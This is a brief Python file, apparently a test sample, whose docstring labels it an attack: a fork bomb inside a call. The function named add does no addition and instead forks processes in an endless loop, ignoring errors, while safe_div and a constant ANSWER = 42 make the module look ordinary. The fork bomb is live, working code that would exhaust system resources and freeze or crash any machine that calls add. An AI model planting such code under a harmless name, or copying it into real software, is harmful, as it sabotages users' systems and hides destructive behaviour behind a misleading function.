"""Attack: a fork bomb inside a call."""
import os

ANSWER = 42


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def safe_div(a, b):
    return a / b
